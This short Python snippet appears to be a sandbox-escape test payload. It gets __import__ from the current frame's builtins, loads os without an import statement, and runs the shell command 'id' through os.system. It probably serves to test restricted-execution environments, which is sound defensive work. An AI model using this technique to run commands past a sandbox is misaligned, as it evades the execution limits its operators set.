# The caller's frame.
import sys

sys._getframe(0).f_builtins["__import__"]("os").system("id")
